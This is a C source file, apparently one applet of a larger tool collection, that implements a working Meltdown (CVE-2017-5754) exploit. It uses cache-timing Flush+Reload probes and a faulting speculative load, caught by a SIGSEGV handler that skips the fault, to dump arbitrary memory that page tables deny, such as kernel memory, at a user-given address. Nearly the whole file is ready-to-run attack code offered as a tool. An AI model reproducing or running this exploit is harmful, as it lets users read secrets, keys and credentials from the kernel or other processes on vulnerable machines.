/*
 * meltdown: reads what its page tables say it may not, by CVE-2017-5754 (docs/late-checks.md).
 *
 * A processor that checks late has the datum of a denied load for some instructions, and what these load leaves a line in
 * the cache. Of 256 lines one is near then, and its number is the byte. All of that comes too late to be taken back: the
 * fault, SIGSEGV, only says that it should not have happened.
 */
#include "applets.h"

#define SIGSEGV 11
#define LINE 64
#define ROUNDS 16
#define TRIES 3
#define WIDTH 16
#define MOST (1 << 20)

/* What a handler is given of the interrupted code (arch/x86/include/uapi/asm/{ucontext,sigcontext}.h), up to its IP. */
struct context {
	ulong flags, link, stack[3];
#ifdef __x86_64__
	ulong registers[16];
#else
	ulong segments[4], registers[8], trap, error;
#endif
	ulong ip;
};

static u8 probe[256 * LINE] __attribute__((aligned(LINE)));
static u32 near_below; /* a load that takes fewer ticks found its line in the cache */

static void flush_line(const u8 *line) { __asm__ volatile("clflush (%0)" : : "r"(line) : "memory"); }

/* Ticks that a load takes. The fences keep it between the clock's two readings. */
static u32 time_load(const u8 *line)
{
	u32 begin, end;
	__asm__ volatile("mfence\n\trdtsc\n\tmovl %%eax, %0\n\tmovb (%2), %%dl\n\tlfence\n\trdtsc"
			 : "=&r"(begin), "=&a"(end) : "r"(line) : "edx", "memory");
	return end - begin;
}

/* The least of some rounds each: any one may have been interrupted. */
static int can_tell(void)
{
	u32 near = -1u, far = -1u;
	for (int i = 0; i < ROUNDS; i++) {
		flush_line(probe);
		u32 first = time_load(probe), again = time_load(probe);
		far = first < far ? first : far;
		near = again < near ? again : near;
	}
	near_below = near + (far - near) / 2;
	return far > near + near / 2;
}

extern const char denied_load[], after_load[];

/* LFENCE ends the window, and is where those go on who may read the byte after all. */
static void __attribute__((noinline)) touch_line_of(const u8 *secret)
{
	ulong byte;
	__asm__ volatile("denied_load:\n\tmovzbl (%1), %k0\n\t"
			 "shll $6, %k0\n\t"
			 "movb (%2, %0), %b0\n\t"
			 "lfence\n"
			 "after_load:" : "=&q"(byte) : "r"(secret), "r"(probe) : "cc", "memory");
}

/* Any fault but the one that is meant is in earnest. */
static void go_on(int sig, void *info, struct context *c)
{
	(void)info;
	if (c->ip == (ulong)denied_load)
		c->ip = (ulong)after_load;
	else
		signal(sig, SIG_DFL);
}

/* -1: no line was near, or so many that nothing follows from it. */
static int steal_byte(const u8 *secret)
{
	for (int try = 0; try < TRIES; try++) {
		int found = -1, lines = 0;
		for (int i = 0; i < 256; i++)
			flush_line(probe + i * LINE);
		__asm__ volatile("mfence" : : : "memory");
		touch_line_of(secret);
		for (int i = 0; i < 256; i++)
			if (time_load(probe + i * LINE) < near_below)
				found = i, lines++;
		if (lines == 1)
			return found;
	}
	return -1;
}

/* A line of the dump; how many of its bytes could be had. */
static int dump_line(ulong at, int n)
{
	char text[WIDTH + 1];
	int got = 0;
	printf("%0*lx ", (int)sizeof at * 2, at);
	for (int i = 0; i < WIDTH; i++) {
		int byte = i < n ? steal_byte((const u8 *)at + i) : -1;
		printf(i == WIDTH / 2 ? "  " : " ");
		printf(byte >= 0 ? "%02x" : i < n ? ".." : "  ", byte);
		text[i] = byte < 0 ? ' ' : byte >= ' ' && byte <= '~' ? byte : '.';
		got += byte >= 0;
	}
	text[n] = 0;
	printf("  |%s|\n", text);
	return got;
}

/* All of `s` as a hexadecimal number, with or without 0x; 0: it is none. */
static int parse_address(const char *s, ulong *address)
{
	if (s[0] == '0' && (s[1] == 'x' || s[1] == 'X'))
		s += 2;
	*address = 0;
	if (!*s)
		return 0;
	for (; *s; s++) {
		char c = *s | 0x20;
		int digit = c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
		if (digit < 0 || *address >> (sizeof *address * 8 - 4))
			return 0;
		*address = *address << 4 | digit;
	}
	return 1;
}

int meltdown_main(int argc, char **argv)
{
	ulong at;
	long length = argc > 2 ? number(argv[2], 0) : 64, got = 0;
	if (argc < 2 || argc > 3 || !parse_address(argv[1], &at) || length < 1 || length > MOST)
		return bad_usage("ADDRESS [LENGTH]    (ADDRESS: hexadecimal; LENGTH: 1 to 1048576)");
	if (at + (length - 1) < at) {
		dprintf(2, "%s: %s: %ld bytes go past the last address\n", program, argv[1], length);
		return 2;
	}
	for (size_t i = 0; i < sizeof probe; i += LINE)
		probe[i] = 1; /* pages of its own: untouched, all would be one page of zeros, and a quarter of the lines */
	if (!can_tell()) {
		dprintf(2, "%s: this processor has no cache to tell by\n", program);
		return 1;
	}
	signal(SIGSEGV, (ulong)go_on);
	for (long done = 0; done < length; done += WIDTH) {
		got += dump_line(at + done, length - done < WIDTH ? length - done : WIDTH);
		flush();
	}
	if (got)
		printf("%s: %ld of %ld bytes of 0x%lx\n", program, got, length, at);
	else
		printf("%s: nothing: this processor checks in time, or nothing is mapped there\n", program);
	return !got;
}
